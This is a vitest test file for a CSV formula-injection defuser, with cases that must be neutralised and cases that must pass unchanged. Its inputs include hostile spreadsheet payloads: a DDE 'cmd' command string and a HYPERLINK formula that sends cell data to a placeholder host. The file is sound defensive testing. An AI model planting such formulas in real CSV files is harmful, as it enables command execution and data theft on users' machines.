import { expect, test } from 'vitest';
import { EVIDENCE_FILE_BYTES } from '../../../shared/limits.ts';
import { defuseCsv } from './defused-csv.ts';

const defused = (text: string) => defuseCsv(Buffer.from(text)).toString();

test.each([
  ['=1+1', "'=1+1"],
  ["=cmd|' /C calc'!A0,5", "'=cmd|' /C calc'!A0,5"],
  ['a,=HYPERLINK("http://x.example?"&A1)', 'a,\'=HYPERLINK("http://x.example?"&A1)'],
  ['a;@SUM(A1)', "a;'@SUM(A1)"],
  ['a\t+A1*2', "a\t'+A1*2"],
  ['a|-A1', "a|'-A1"],
  ['"=1+1",b', '"\'=1+1",b'],
  ['a, =1+1', "a, '=1+1"],
  ['a,"\t=1+1"', 'a,"\t\'=1+1"'],
  ['a\r\n=1+1\r\n', "a\r\n'=1+1\r\n"],
  ['a\r=1+1', "a\r'=1+1"],
  ['\ufeff=1+1', "\ufeff'=1+1"],
  ['-2+3+cmd', "'-2+3+cmd"],
  ['+27 82 555=1', "'+27 82 555=1"],
  ['＝1+1', "'＝1+1"],
  ['sep=z\naz=1+1', "'sep=z\naz=1+1"],
  ['\ufeff"SEP=z"\naz', '\ufeff"\'SEP=z"\naz'],
])('of %j nothing runs', (csv, safe) => {
  expect(defused(csv)).toBe(safe);
});

test.each([
  'date,amount\n2026-01-01,-500.00\n2026-01-02,+1 250.00\n',
  '-500;-R 20 000.00;- R5',
  'phone\n+27 82 555 1234\n',
  'a,-,--,b',
  'e-mail,a@example.co.za,a=b,x+y',
  '\ufeffBedrag;Nota\n5;"Nooit betaal nie – ooit"\n',
])('%j stays as it is', (csv) => {
  expect(defused(csv)).toBe(csv);
});

test('a defused file does not change again', () => {
  const once = defused('=1+1,"@x"\n-A1');
  expect(defused(once)).toBe(once);
});

test.each([' ', '\t', '=', '-', ',', '"', '\r', '+ '])('a file of %j alone takes no time', (text) => {
  const began = process.cpuUsage();
  defuseCsv(Buffer.from(text.repeat(EVIDENCE_FILE_BYTES.max / text.length)));
  expect(process.cpuUsage(began).user).toBeLessThan(5_000_000);
});
